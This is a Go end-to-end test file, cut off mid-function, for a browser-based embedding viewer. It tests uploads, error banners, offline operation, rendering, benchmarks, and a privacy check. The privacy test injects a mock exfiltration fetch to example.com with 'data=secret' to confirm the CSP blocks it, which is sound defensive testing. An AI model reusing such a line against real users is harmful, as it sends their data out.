package e2e

import (
	"archive/zip"
	"bytes"
	"context"
	"fmt"
	"image"
	"math"
	"net/url"
	"os"
	"path"
	"path/filepath"
	"slices"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/input"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
)

// The canvas area the tests inspect: above the toolbar and status line.
var plotArea = image.Rect(0, 0, 1280, 700)

func TestFirstOpenDrawsTheDemo(t *testing.T) {
	s := startServer(t)
	ctx := newBrowser(t, s)
	st := open(t, ctx, s)
	if st.Phase != "ready" || st.Points != 1797 || st.Dims != 64 || st.Method != "pca" {
		t.Fatalf("demo status %+v, want ready 1797×64 by pca", st)
	}
	if len(st.Diagnostics) != 0 {
		t.Errorf("the demo reports diagnostics: %+v", st.Diagnostics)
	}
	img := screenshot(t, ctx)
	nonBG, colours := pixelStats(img, plotArea, background)
	// 1797 discs of radius 3.5 px cover far more than 5,000 pixels; ten label colours.
	if nonBG < 5000 {
		t.Errorf("only %d non-background pixels in the plot area", nonBG)
	}
	if n := frequentColours(colours, 150); n < 8 {
		t.Errorf("only %d colours cover ≥150 pixels each; want the 10 digit classes to show", n)
	}
	loading, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`document.getElementById('loading') !== null`))
	if err != nil || loading {
		t.Errorf("the loading screen is still there after the first frame (err %v)", err)
	}
}

func TestUploadTensorAndMetadata(t *testing.T) {
	_, ctx := demoPage(t)
	cases := []struct {
		name  string
		files []string
		n, d  int
	}{
		{"wine TSV pair", []string{"sklearn-wine-tsv/vectors.tsv", "sklearn-wine-tsv/metadata.tsv"}, 178, 13},
		{"breast cancer TSV pair", []string{"sklearn-breast-cancer-tsv/vectors.tsv", "sklearn-breast-cancer-tsv/metadata.tsv"}, 569, 30},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			var paths []string
			for _, f := range tc.files {
				paths = append(paths, sharedData(t, f))
			}
			upload(t, ctx, paths...)
			st := waitStatus(t, ctx, 60*time.Second, tc.name+" to be ready", func(st status) bool {
				return (st.Phase == "ready" && st.Points == tc.n) || st.Phase == "error"
			})
			if st.Phase != "ready" || st.Points != tc.n || st.Dims != tc.d {
				t.Fatalf("status %+v, want ready %d×%d", st, tc.n, tc.d)
			}
			nonBG, _ := pixelStats(screenshot(t, ctx), plotArea, background)
			if nonBG < 500 {
				t.Errorf("only %d non-background pixels after loading %d points", nonBG, tc.n)
			}
		})
	}
}

func TestMismatchedPairShowsBanner(t *testing.T) {
	_, ctx := demoPage(t)
	before := screenshot(t, ctx)
	// 178 wine vectors with 569 breast-cancer labels.
	upload(t, ctx, sharedData(t, "sklearn-wine-tsv/vectors.tsv"), sharedData(t, "sklearn-breast-cancer-tsv/metadata.tsv"))
	st := waitStatus(t, ctx, 60*time.Second, "the error", func(st status) bool { return st.Phase == "error" })
	if !slices.Contains(st.codes(), "count-mismatch") {
		t.Errorf("diagnostic codes %v lack count-mismatch", st.codes())
	}
	for _, d := range st.Diagnostics {
		if d.Code == "count-mismatch" && (d.Severity != "error" || d.Message == "") {
			t.Errorf("count-mismatch diagnostic %+v: want an error with a message", d)
		}
	}
	if st.Points != 0 {
		t.Errorf("status claims %d points for data that cannot be drawn", st.Points)
	}
	after := screenshot(t, ctx)
	// The banner sits at the top left; red error boxes (#8b1a1a).
	banner := image.Rect(12, 12, 900, 60)
	red := 0
	changed := 0
	for y := banner.Min.Y; y < banner.Max.Y; y++ {
		for x := banner.Min.X; x < banner.Max.X; x++ {
			r, g, b, _ := after.At(x, y).RGBA()
			if r>>8 > 0x70 && g>>8 < 0x40 && b>>8 < 0x40 {
				red++
			}
			r0, g0, b0, _ := before.At(x, y).RGBA()
			if r != r0 || g != g0 || b != b0 {
				changed++
			}
		}
	}
	if red < 5000 || changed < 5000 {
		t.Errorf("banner area: %d red pixels, %d changed; want an error banner drawn", red, changed)
	}
	// Nothing else: below the banner boxes the plot is empty (the
	// inspector panel on the right is not the plot).
	below := image.Rect(0, 260, 940, 670)
	if nonBG, _ := pixelStats(after, below, background); nonBG > 200 {
		t.Errorf("%d non-background pixels below the banner: points drawn for broken data?", nonBG)
	}
}

func TestScriptDropWithoutFilesKeepsAppAlive(t *testing.T) {
	_, ctx := demoPage(t)
	// A drop event made by a script, with an empty DataTransfer, on the canvas
	// (Ebiten's own handler would kill the Go program on it), then one with text.
	if err := chromedp.Do(ctx, chromedp.Evaluate[chromedp.Void](`(() => {
		const target = document.querySelector('canvas') || document.body;
		const empty = new DataTransfer();
		target.dispatchEvent(new DragEvent('drop', {dataTransfer: empty, bubbles: true, cancelable: true}));
		const text = new DataTransfer();
		text.setData('text/plain', 'hello');
		target.dispatchEvent(new DragEvent('drop', {dataTransfer: text, bubbles: true, cancelable: true}));
	})()`)); err != nil {
		t.Fatal(err)
	}
	st := waitStatus(t, ctx, 20*time.Second, "the empty drop to be reported", func(st status) bool {
		return slices.Contains(st.codes(), "no-files")
	})
	if st.Phase != "ready" || st.Points != 1797 {
		t.Errorf("after an empty drop the status is %+v; want the demo still ready", st)
	}
	// The program still runs: a real file pair still loads.
	upload(t, ctx, wineFiles(t)...)
	waitStatus(t, ctx, 60*time.Second, "the wine data after the empty drop", func(st status) bool {
		return st.Phase == "ready" && st.Points == 178
	})
}

func TestRealDragAndDropOfFiles(t *testing.T) {
	_, ctx := demoPage(t)
	dropPaths(t, ctx, wineFiles(t)...)
	expectWine(t, ctx, "the dropped files")
}

// builtFiles lists the file names in the build output.
func builtFiles(t *testing.T, dist string) map[string]bool {
	t.Helper()
	entries, err := os.ReadDir(dist)
	if err != nil {
		t.Fatal(err)
	}
	m := map[string]bool{"/": true}
	for _, e := range entries {
		m["/"+e.Name()] = true
	}
	return m
}

// isOwnFile reports whether r is a same-origin GET of a file in the build output.
func isOwnFile(r request, host string, files map[string]bool) bool {
	u, err := url.Parse(r.URL)
	if err != nil {
		return false
	}
	return r.Method == "GET" && u.Scheme == "http" && u.Host == host && files[path.Clean("/"+u.Path)]
}

// browserOwn reports a proxied request that is Chromium's own background
// traffic (its component updater's plain-HTTP POSTs, say): to another host
// than ours, and made by no page or worker, since DevTools, which logs every
// request of the page and its workers, never saw it. A page's request to
// another host is in that log, and so fails the test.
func browserOwn(r request, host string, seen []request) bool {
	u, err := url.Parse(r.URL)
	if err != nil || u.Host == host {
		return false
	}
	for _, d := range seen {
		if d.URL == r.URL {
			return false
		}
	}
	return true
}

// notNetwork reports URLs that never reach the network (data:, blob:).
func notNetwork(r request) bool {
	return strings.HasPrefix(r.URL, "data:") || strings.HasPrefix(r.URL, "blob:")
}

// untilReady navigates to the site and returns as soon as #status says
// ready (or error): a MutationObserver in the page sees the change, so no
// polling interval lies between the page saying ready and the caller acting.
// It also returns when that was, in ms since the epoch (the page's clock).
func untilReady(t testing.TB, ctx context.Context, s *server) (status, float64) {
	t.Helper()
	if err := chromedp.Do(ctx, chromedp.Navigate(s.URL)); err != nil {
		t.Fatalf("navigate: %v", err)
	}
	at, err := chromedp.Run(ctx, chromedp.Evaluate[float64](`new Promise((resolve) => {
		const el = document.getElementById('status');
		const done = () => { try { const p = JSON.parse(el.dataset.state).phase; return p === 'ready' || p === 'error'; } catch (_) { return false; } };
		const now = () => performance.timeOrigin + performance.now();
		if (done()) { resolve(now()); return; }
		new MutationObserver((_, obs) => { if (done()) { obs.disconnect(); resolve(now()); } })
			.observe(el, {attributes: true, attributeFilter: ['data-state']});
	})`, chromedp.EvalAwaitPromise))
	if err != nil {
		t.Fatalf("waiting for ready: %v", err)
	}
	st, err := readStatus(ctx)
	if err != nil {
		t.Fatal(err)
	}
	return st, at
}

// resource is one entry of a Resource Timing buffer: what a page or worker
// fetched, from the network, a cache or its service worker alike.
type resource struct {
	Name  string  `json:"name"`
	Start float64 `json:"start"` // ms since the epoch
}

const resourcesJS = `performance.getEntriesByType('resource').map((e) => ({name: e.name, start: performance.timeOrigin + e.startTime}))`

// fetchedBy returns the resources fetched by the page of ctx and by its
// dedicated workers (each read in its own timeline).
func fetchedBy(t testing.TB, ctx context.Context) []resource {
	t.Helper()
	all, err := chromedp.Run(ctx, chromedp.Evaluate[[]resource](resourcesJS))
	if err != nil {
		t.Fatalf("reading the page's resource timing: %v", err)
	}
	infos, err := targetsOf(ctx)
	if err != nil {
		t.Fatalf("listing targets: %v", err)
	}
	for _, info := range infos {
		if info.Type != "worker" {
			continue
		}
		wctx, cancel := chromedp.NewContext(ctx, chromedp.WithTargetID(info.TargetID))
		got, err := chromedp.Run(wctx, chromedp.Evaluate[[]resource](resourcesJS))
		cancel()
		if err != nil {
			t.Fatalf("reading a worker's resource timing: %v", err)
		}
		all = append(all, got...)
	}
	return all
}

func TestPrivacyOnlyOwnStaticFiles(t *testing.T) {
	s := startServer(t)
	ctx, _ := startBrowser(t, s) // a browser of its own: its background traffic is checked too
	var devtools netLog
	devtools.watch(t, ctx)
	start := s.count()
	// A file chosen the moment the page says ready: from then on nothing may
	// be requested, so whatever t-SNE needs (its worker's script and wasm)
	// must have been fetched before.
	st, readyAt := untilReady(t, ctx, s)
	if st.Phase != "ready" {
		t.Fatalf("the demo did not become ready: %+v", st)
	}
	mark, devMark := s.count(), len(devtools.all())
	upload(t, ctx, wineFiles(t)...)
	files := builtFiles(t, s.dist)

	// What DevTools attributes to the page (and later the workers): only our files.
	page := devtools.all()[:devMark]
	if len(page) < 4 {
		t.Fatalf("DevTools reported only %d page requests: the log is not working", len(page))
	}
	for _, r := range page {
		if !notNetwork(r) && !isOwnFile(r, s.host, files) {
			t.Errorf("the page requested %s %s: not a same-origin GET of a built file", r.Method, r.URL)
		}
	}
	// What reached the network through the proxy before the choice: every
	// plain HTTP request (page, service worker install, anything) is one of
	// our files. HTTPS tunnels are Chromium's own background traffic; a page
	// or worker request over HTTPS would have shown in the DevTools log.
	ownServed := 0
	for _, r := range s.requests(start)[:mark-start] {
		switch {
		case r.Method == "CONNECT":
			t.Logf("Chromium's own background tunnel (not the page): %s", r.URL)
		case browserOwn(r, s.host, devtools.all()):
			t.Logf("Chromium's own background request (no page or worker made it): %s %s", r.Method, r.URL)
		case !isOwnFile(r, s.host, files) || !r.Served:
			t.Errorf("request %s %s reached the network: not a same-origin GET of a built file", r.Method, r.URL)
		default:
			ownServed++
		}
	}
	if ownServed < 4 {
		t.Fatalf("the server served only %d files: the proxy is not in the path", ownServed)
	}
	t.Logf("%d DevTools page requests, %d served files before the choice, all same-origin GETs of the build output", len(page), ownServed)

	// Watch the service worker and the t-SNE worker too from now on.
	if n := devtools.watchWorkers(t, ctx, "service_worker"); n != 1 {
		t.Errorf("found %d service workers, want 1", n)
	}
	if n := devtools.watchWorkers(t, ctx, "worker"); n != 1 {
		t.Errorf("found %d dedicated workers (t-SNE) at ready, want 1", n)
	}
	// After the file was chosen, while it is shown and projected with t-SNE:
	// no request at all from the page or its workers.
	waitStatus(t, ctx, 60*time.Second, "the wine data", func(st status) bool { return st.Phase == "ready" && st.Points == 178 })
	setControl(t, ctx, "ctl-method", "tsne")
	waitStatus(t, ctx, 60*time.Second, "t-SNE of the wine data", func(st status) bool { return st.Method == "tsne" && st.Iteration > 50 })
	time.Sleep(time.Second)
	for _, r := range devtools.all()[devMark:] {
		t.Errorf("request after a file was chosen: %s %s", r.Method, r.URL)
	}
	for _, r := range s.requests(mark) {
		if r.Method != "CONNECT" && !browserOwn(r, s.host, devtools.all()) {
			t.Errorf("request reached the network after a file was chosen: %s %s", r.Method, r.URL)
		}
	}
	// The page's and the workers' own timelines also list what a cache or
	// the service worker answered: nothing may start after ready either,
	// and the t-SNE worker's wasm must be among what came before.
	workerWasm := false
	for _, r := range fetchedBy(t, ctx) {
		if r.Start > readyAt {
			t.Errorf("fetched %.0f ms after the page said ready: %s", r.Start-readyAt, r.Name)
		}
		workerWasm = workerWasm || strings.Contains(r.Name, "/worker.") && strings.HasSuffix(r.Name, ".wasm.gz")
	}
	if !workerWasm {
		t.Errorf("no timeline lists the t-SNE worker's wasm")
	}

	// The CSP is live: an injected cross-origin fetch is blocked by it, not by the network.
	mark = s.count()
	res, err := chromedp.Run(ctx, chromedp.Evaluate[[]string](`new Promise((resolve) => {
		const seen = [];
		document.addEventListener('securitypolicyviolation', (e) => seen.push(e.violatedDirective + ' ' + e.blockedURI));
		fetch('http://example.com/collect?data=secret', {mode: 'no-cors'})
			.then(() => 'fetched', (e) => 'rejected: ' + e)
			.then((outcome) => setTimeout(() => resolve([outcome, ...seen]), 300));
	})`, chromedp.EvalAwaitPromise))
	if err != nil {
		t.Fatal(err)
	}
	if len(res) < 2 || res[0] == "fetched" || !slices.ContainsFunc(res[1:], func(v string) bool { return strings.HasPrefix(v, "connect-src") }) {
		t.Errorf("cross-origin fetch outcome %q: want it rejected with a connect-src CSP violation", res)
	}
	for _, r := range s.requests(mark) {
		if r.Method != "CONNECT" {
			t.Errorf("the injected fetch reached the network: %s %s", r.Method, r.URL)
		}
	}
}

func TestReadyWithoutWorkers(t *testing.T) {
	s := startServer(t)
	ctx := newBrowser(t, s)
	// A browser without Web Workers: the page still says ready, and t-SNE
	// runs on the page's own thread.
	if _, err := chromedp.Call(ctx, page.AddScriptToEvaluateOnNewDocument,
		page.AddScriptToEvaluateOnNewDocumentParams{Source: `delete window.Worker;`}); err != nil {
		t.Fatal(err)
	}
	if st := open(t, ctx, s); st.Phase != "ready" || st.Points != 1797 {
		t.Fatalf("without Workers: %+v", st)
	}
	setControl(t, ctx, "ctl-method", "tsne")
	waitStatus(t, ctx, 60*time.Second, "t-SNE on the page's thread", func(st status) bool { return st.Method == "tsne" && st.Iteration > 20 })
}

func TestStartsWithoutStreamingCompilation(t *testing.T) {
	// Browsers without WebAssembly.instantiateStreaming compile after the
	// download; without DecompressionStream they fetch the uncompressed wasm.
	for _, missing := range []string{"WebAssembly.instantiateStreaming", "window.DecompressionStream"} {
		t.Run(missing, func(t *testing.T) {
			s := startServer(t)
			ctx := newBrowser(t, s)
			if _, err := chromedp.Call(ctx, page.AddScriptToEvaluateOnNewDocument,
				page.AddScriptToEvaluateOnNewDocumentParams{Source: `delete ` + missing + `;`}); err != nil {
				t.Fatal(err)
			}
			if st := open(t, ctx, s); st.Phase != "ready" || st.Points != 1797 {
				t.Fatalf("without %s: %+v", missing, st)
			}
			raw, err := chromedp.Run(ctx, chromedp.Evaluate[bool](
				`performance.getEntriesByType('resource').some((e) => /\/main\.[0-9a-f]+\.wasm$/.test(e.name))`))
			if err != nil || raw != (missing == "window.DecompressionStream") {
				t.Errorf("without %s the page fetched the uncompressed wasm: %v (%v)", missing, raw, err)
			}
			setControl(t, ctx, "ctl-method", "tsne")
			waitStatus(t, ctx, 60*time.Second, "t-SNE", func(st status) bool { return st.Method == "tsne" && st.Iteration > 20 })
		})
	}
}

func TestOfflineAfterFirstVisit(t *testing.T) {
	s, ctx := demoPage(t)
	// Wait until the service worker has installed (precached) and controls the page.
	if _, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`navigator.serviceWorker.ready.then(() => new Promise((resolve) => {
		const check = () => navigator.serviceWorker.controller ? resolve(true) : setTimeout(check, 100);
		check();
	}))`, chromedp.EvalAwaitPromise)); err != nil {
		t.Fatalf("service worker never took control: %v", err)
	}
	s.offline.Store(true)
	mark := s.count()
	if err := chromedp.Do(ctx, chromedp.Reload()); err != nil {
		t.Fatalf("reload while offline: %v", err)
	}
	st := waitStatus(t, ctx, 90*time.Second, "the demo, offline", func(st status) bool {
		return (st.Phase == "ready" && st.Points == 1797) || st.Phase == "error"
	})
	if st.Phase != "ready" {
		t.Fatalf("offline reload status %+v", st)
	}
	upload(t, ctx, wineFiles(t)...)
	waitStatus(t, ctx, 60*time.Second, "a file loaded offline", func(st status) bool { return st.Phase == "ready" && st.Points == 178 })
	for _, r := range s.requests(mark) {
		if r.Served {
			t.Errorf("served while offline: %s", r.URL)
		}
	}
}

// Limits on the gzip-compressed wasm files, measured plus 10%: the page
// 4,167,082 bytes on 2026-12-01 (canvas text through the browser, no
// bundled font), the worker 955,682 bytes on 2026-11-27, with Go 1.26.8.
var wasmGzipLimits = map[string]int64{
	"main.*.wasm.gz":   4_584_000,
	"worker.*.wasm.gz": 1_051_000,
}

func TestCompressedWasmSize(t *testing.T) {
	for pattern, limit := range wasmGzipLimits {
		matches, err := filepath.Glob(filepath.Join(distDir(t), pattern))
		if err != nil || len(matches) != 1 {
			t.Fatalf("want exactly one %s in the build output, got %v (%v)", pattern, matches, err)
		}
		st, err := os.Stat(matches[0])
		if err != nil {
			t.Fatal(err)
		}
		t.Logf("%s: %d bytes (limit %d)", filepath.Base(matches[0]), st.Size(), limit)
		if st.Size() > limit {
			t.Errorf("%s is %d bytes, over the %d limit", filepath.Base(matches[0]), st.Size(), limit)
		}
	}
}

// startMarks are the performance marks of the start-up timeline, in the
// order they are set: app.js sets the first five (wasm-downloaded: the last
// compressed byte came; wasm-inflated: the last inflated byte;
// wasm-compiled: the instance is ready; as the download, inflation and
// compilation overlap, each later one measures only what is left after the
// previous one), the Go program the rest (wasm/dom.go mark).
var startMarks = []string{"app-start", "wasm-fetch", "wasm-downloaded", "wasm-inflated", "wasm-compiled",
	"go-main", "demo-parsed", "demo-projected", "go-update", "first-frame"}

// startPhases name the spans between consecutive marks of startMarks, as
// BenchmarkFirstFrame reports them: page (navigation to app.js running),
// to-fetch, download (compiling as it comes), inflate, compile, go-init
// (runtime and package initialisation), demo-parse, pca (the demo's
// projection), ebiten-start (until the first Update: its WebGL context) and
// first-draw.
var startPhases = []string{"page", "to-fetch", "download", "inflate", "compile", "go-init",
	"demo-parse", "pca", "ebiten-start", "first-draw"}

// firstFrameTimeline opens the page in a fresh browser slowed down throttle
// times (1: not at all) and returns the start-up marks, ms from navigation.
func firstFrameTimeline(b *testing.B, throttle float64) map[string]float64 {
	b.Helper()
	s := startServer(b)
	ctx, closeBrowser := startBrowser(b, s)
	defer closeBrowser() // one browser at a time
	if throttle > 1 {
		if _, err := chromedp.Call(ctx, emulation.SetCPUThrottlingRate, emulation.SetCPUThrottlingRateParams{Rate: throttle}); err != nil {
			b.Fatalf("throttling the CPU: %v", err)
		}
	}
	stopProfile := profilePage(b, ctx)
	open(b, ctx, s)
	defer stopProfile()
	marks, err := chromedp.Run(ctx, chromedp.Evaluate[map[string]float64](`(() => {
		const m = {};
		for (const e of performance.getEntriesByType('mark')) if (!(e.name in m)) m[e.name] = e.startTime;
		m['first-frame-ms'] = Number(document.body.dataset.firstFrameMs || NaN);
		return m;
	})()`))
	if err != nil {
		b.Fatalf("reading the start-up marks: %v", err)
	}
	for _, name := range append(startMarks, "page-ready", "preview-drawn") {
		if _, ok := marks[name]; !ok {
			b.Fatalf("start-up mark %q missing: %v", name, marks)
		}
	}
	return marks
}

// startSpans turns the marks into startPhases durations (ms).
func startSpans(m map[string]float64) []float64 {
	at := make([]float64, len(startMarks))
	for i, name := range startMarks {
		at[i] = m[name]
	}
	spans := []float64{at[0]}
	for i := 1; i < len(at); i++ {
		spans = append(spans, at[i]-at[i-1])
	}
	return spans
}

func median(v []float64) float64 {
	v = slices.Clone(v)
	sort.Float64s(v)
	return v[len(v)/2]
}

// BenchmarkFirstFrame measures, in headless Chromium on localhost, the time
// from navigation start to the first drawn frame (performance.now() when the
// loading screen is removed), over b.N fresh browsers, how it divides into
// startPhases, the time until the demo's preview was drawn (app.js, while
// the program loads) and the time until #status first says ready (the
// t-SNE worker loaded). It reports medians, unthrottled and with the page's CPU
// slowed down 3× (Emulation.setCPUThrottlingRate, which slows the page's
// thread, not the browser's compile threads).
func BenchmarkFirstFrame(b *testing.B) {
	for _, throttle := range []float64{1, 3} {
		b.Run(fmt.Sprintf("cpu-slowdown=%g", throttle), func(b *testing.B) {
			var total, ready, preview []float64
			phases := make([][]float64, len(startPhases))
			for i := 0; i < b.N; i++ {
				m := firstFrameTimeline(b, throttle)
				spans := startSpans(m)
				line := ""
				for k, v := range spans {
					phases[k] = append(phases[k], v)
					line += fmt.Sprintf(" %s %.0f", startPhases[k], v)
				}
				total, ready = append(total, m["first-frame-ms"]), append(ready, m["page-ready"])
				preview = append(preview, m["preview-drawn"])
				b.Logf("run %d: preview at %.0f ms, first frame at %.0f ms, ready at %.0f ms:%s", i+1, m["preview-drawn"], m["first-frame-ms"], m["page-ready"], line)
			}
			b.ReportMetric(median(total), "ms-to-first-frame")
			b.ReportMetric(median(ready), "ms-to-ready")
			b.ReportMetric(median(preview), "ms-to-preview")
			for k, name := range startPhases {
				b.ReportMetric(median(phases[k]), name+"-ms")
			}
		})
	}
}

// mouse sends one mouse event at (x, y) CSS pixels.
func mouse(t *testing.T, ctx context.Context, typ input.DispatchMouseEventType, x, y float64, mod func(*input.DispatchMouseEventParams)) {
	t.Helper()
	p := input.DispatchMouseEventParams{Type: typ, X: x, Y: y}
	if mod != nil {
		mod(&p)
	}
	dragging(&p)
	if _, err := chromedp.Call(ctx, input.DispatchMouseEvent, p); err != nil {
		t.Fatalf("mouse %s at (%v,%v): %v", typ, x, y, err)
	}
}

// dragging makes a move with the left button held a move of a held left
// button for Chromium too: CDP needs the button named as well as in
// buttons, or it takes the button as released (so a pointer capture the
// page set is lost at the first move, and moves over a panel go to the panel).
func dragging(p *input.DispatchMouseEventParams) {
	if p.Type == input.DispatchMouseEventTypeMouseMoved && p.Buttons&1 != 0 && p.Button == "" {
		p.Button = input.MouseButtonLeft
	}
}

// drag presses the left button at (x, y), moves steps times by (dx, dy) and releases.
func drag(t *testing.T, ctx context.Context, x, y, dx, dy float64, steps int) {
	t.Helper()
	left := func(p *input.DispatchMouseEventParams) {
		p.Button = input.MouseButtonLeft
		p.Buttons = 1
		p.ClickCount = 1
	}
	mouse(t, ctx, input.DispatchMouseEventTypeMousePressed, x, y, left)
	for i := 1; i <= steps; i++ {
		x, y = x+dx, y+dy
		mouse(t, ctx, input.DispatchMouseEventTypeMouseMoved, x, y, func(p *input.DispatchMouseEventParams) { p.Buttons = 1 })
		time.Sleep(40 * time.Millisecond)
	}
	mouse(t, ctx, input.DispatchMouseEventTypeMouseReleased, x, y, left)
}

// diffPixels counts pixels of r that differ between a and b.
func diffPixels(a, b image.Image, r image.Rectangle) int {
	n := 0
	for y := r.Min.Y; y < r.Max.Y; y++ {
		for x := r.Min.X; x < r.Max.X; x++ {
			r1, g1, b1, _ := a.At(x, y).RGBA()
			r2, g2, b2, _ := b.At(x, y).RGBA()
			if r1 != r2 || g1 != g2 || b1 != b2 {
				n++
			}
		}
	}
	return n
}

func TestHoverZoomPanAndFit(t *testing.T) {
	_, ctx := demoPage(t)
	initial := screenshot(t, ctx)

	// Hover: find a drawn point (a pixel of the first legend colour, #4e79a7,
	// away from the legend and the inspector, whose inputs have borders of
	// that colour) and put the cursor on it; the tooltip appears beside it.
	px, py := findColour(initial, 0x4e, 0x79, 0xa7)
	if px < 0 {
		t.Fatal("no point of the first class found on screen")
	}
	mouse(t, ctx, input.DispatchMouseEventTypeMouseMoved, float64(px), float64(py), nil)
	time.Sleep(300 * time.Millisecond)
	hovered := screenshot(t, ctx)
	tip := image.Rect(px+10, py+10, px+200, py+50)
	if px+220 > 1280 {
		tip = image.Rect(px-200, py+10, px-10, py+50)
	}
	if n := diffPixels(initial, hovered, tip); n < 1000 {
		t.Errorf("hovering the point at (%d,%d) changed only %d pixels where the tooltip goes", px, py, n)
	}

	// Wheel zoom around the cursor, then a drag: the picture changes.
	mouse(t, ctx, input.DispatchMouseEventTypeMouseWheel, 640, 400, func(p *input.DispatchMouseEventParams) { p.DeltaX, p.DeltaY = 1e-6, -300 })
	time.Sleep(300 * time.Millisecond)
	zoomed := screenshot(t, ctx)
	if n := diffPixels(hovered, zoomed, plotArea); n < 20000 {
		t.Errorf("zooming changed only %d pixels", n)
	}
	drag(t, ctx, 300, 300, 30, 10, 5)
	time.Sleep(300 * time.Millisecond)
	panned := screenshot(t, ctx)
	if n := diffPixels(zoomed, panned, plotArea); n < 20000 {
		t.Errorf("dragging changed only %d pixels", n)
	}

	// The keyboard: 0 fits the data again, which is exactly the first view
	// (with the cursor moved away so nothing is hovered).
	mouse(t, ctx, input.DispatchMouseEventTypeMouseMoved, 5, 5, nil)
	// A key held for a few frames, as a person presses it.
	for _, typ := range []input.DispatchKeyEventType{input.DispatchKeyEventTypeKeyDown, input.DispatchKeyEventTypeKeyUp} {
		if _, err := chromedp.Call(ctx, input.DispatchKeyEvent, input.DispatchKeyEventParams{
			Type: typ, Key: "0", Code: "Digit0", Text: "0", WindowsVirtualKeyCode: 48, NativeVirtualKeyCode: 48,
		}); err != nil {
			t.Fatal(err)
		}
		time.Sleep(150 * time.Millisecond)
	}
	time.Sleep(300 * time.Millisecond)
	fitted := screenshot(t, ctx)
	if n := diffPixels(initial, fitted, plotArea); n > 50 {
		t.Errorf("after pressing 0 the view differs from the first one in %d pixels", n)
	}
}

func TestContextLossSaysFilesAreGone(t *testing.T) {
	_, ctx := demoPage(t)
	upload(t, ctx, wineFiles(t)...)
	waitStatus(t, ctx, 60*time.Second, "the wine data", func(st status) bool { return st.Phase == "ready" && st.Points == 178 })
	// Lose the WebGL context as a GPU reset would; Ebiten reloads the page.
	if err := chromedp.Do(ctx, chromedp.Evaluate[chromedp.Void](`(() => {
		window.__beforeReload = true;
		const gl = document.querySelector('canvas').getContext('webgl2');
		gl.getExtension('WEBGL_lose_context').loseContext();
	})()`)); err != nil {
		t.Fatal(err)
	}
	// After the reload (the old page's marker is gone) and once app.js has run
	// (the demo is up), the notice must name the files.
	waitStatus(t, ctx, 60*time.Second, "the demo after the reload", func(st status) bool { return st.Phase == "ready" && st.Points == 1797 })
	notice, err := chromedp.Run(ctx, chromedp.Evaluate[string](`window.__beforeReload ? 'no reload' :
		(document.getElementById('notice').hidden ? 'hidden' : document.getElementById('notice-text').textContent)`))
	if err != nil || !strings.Contains(notice, "vectors.tsv") || !strings.Contains(notice, "open them again") {
		t.Errorf("notice after the reload: %q (%v)", notice, err)
	}
}

func TestHighDPICanvas(t *testing.T) {
	s := startServer(t)
	ctx := newBrowser(t, s)
	if err := chromedp.Do(ctx, chromedp.EmulateViewport(800, 600, chromedp.EmulateScale(2))); err != nil {
		t.Fatal(err)
	}
	st := open(t, ctx, s)
	if st.Phase != "ready" || st.Points != 1797 {
		t.Fatalf("status %+v", st)
	}
	// Ebiten's canvas holds device pixels: twice the CSS size at scale 2.
	size, err := chromedp.Run(ctx, chromedp.Evaluate[[]float64](`(() => {
		const c = document.querySelector('canvas');
		return [c.width, c.height, c.clientWidth, c.clientHeight, devicePixelRatio];
	})()`))
	if err != nil {
		t.Fatal(err)
	}
	if size[4] != 2 || size[0] != 2*size[2] || size[1] != 2*size[3] {
		t.Errorf("canvas %v×%v device pixels for %v×%v CSS pixels at ratio %v", size[0], size[1], size[2], size[3], size[4])
	}
	img := screenshot(t, ctx)
	if b := img.Bounds(); b.Dx() != 1600 {
		t.Fatalf("screenshot %v, want 1600 px wide at scale 2", b)
	}
	if nonBG, _ := pixelStats(img, image.Rect(0, 0, 1600, 1040), background); nonBG < 4*5000 {
		t.Errorf("only %d non-background device pixels at scale 2", nonBG)
	}
}

// writeFiles writes name → content under dir (creating folders) and returns the paths.
func writeFiles(t testing.TB, dir string, files map[string][]byte) {
	t.Helper()
	for name, data := range files {
		p := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

func readShared(t *testing.T, rel string) []byte {
	t.Helper()
	b, err := os.ReadFile(sharedData(t, rel))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// dropPaths performs a real drag and drop of files or folders onto the page.
func dropPaths(t *testing.T, ctx context.Context, paths ...string) {
	t.Helper()
	data := &input.DragData{Items: []*input.DragDataItem{}, Files: paths, DragOperationsMask: 1}
	for _, typ := range []input.DispatchDragEventType{input.DispatchDragEventTypeDragEnter, input.DispatchDragEventTypeDragOver, input.DispatchDragEventTypeDrop} {
		if _, err := chromedp.Call(ctx, input.DispatchDragEvent, input.DispatchDragEventParams{Type: typ, X: 640, Y: 400, Data: data}); err != nil {
			t.Fatalf("drag event %s: %v", typ, err)
		}
	}
}

func TestDropLogFolderWithPbtxt(t *testing.T) {
	_, ctx := demoPage(t)
	// A TensorBoard-style log folder: config in protobuf text format, paths relative to it.
	dir := filepath.Join(t.TempDir(), "logs")
	writeFiles(t, dir, map[string][]byte{
		"projector_config.pbtxt": []byte("embeddings {\n  tensor_name: \"wine\"\n  tensor_path: \"emb/vectors.tsv\"\n  metadata_path: \"emb/metadata.tsv\"\n}\n"),
		"emb/vectors.tsv":        readShared(t, "sklearn-wine-tsv/vectors.tsv"),
		"emb/metadata.tsv":       readShared(t, "sklearn-wine-tsv/metadata.tsv"),
	})
	dropPaths(t, ctx, dir)
	expectWine(t, ctx, "the dropped log folder")
}

// wineFiles are the paths of the real wine tensor and metadata TSVs.
func wineFiles(t *testing.T) []string {
	return []string{sharedData(t, "sklearn-wine-tsv/vectors.tsv"), sharedData(t, "sklearn-wine-tsv/metadata.tsv")}
}

// expectWine waits until the page shows the 178×13 wine data, failing on an error.
func expectWine(t *testing.T, ctx context.Context, what string) {
	t.Helper()
	st := waitStatus(t, ctx, 60*time.Second, what, func(st status) bool {
		return (st.Phase == "ready" && st.Points == 178) || st.Phase == "error"
	})
	if st.Phase != "ready" || st.Dims != 13 {
		t.Fatalf("status %+v, want the 178×13 wine data from %s", st, what)
	}
}

func TestFixButtonMakesItReady(t *testing.T) {
	_, ctx := demoPage(t)
	// Single-column labels with a header line: one row too many, as TensorBoard
